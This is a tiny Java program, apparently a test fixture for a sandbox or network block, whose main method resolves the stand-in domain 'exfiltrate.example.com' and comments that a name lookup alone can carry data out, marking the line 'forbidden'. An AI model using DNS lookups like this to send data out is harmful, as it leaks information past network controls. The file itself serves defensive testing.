import java.net.InetAddress;

public class Main {
	public static void main(String[] args) throws Exception {
		// A name lookup alone can carry data out (to whoever answers for the domain).
		InetAddress address = InetAddress.getByName("exfiltrate.example.com"); // forbidden
		System.out.println(address);
	}
}
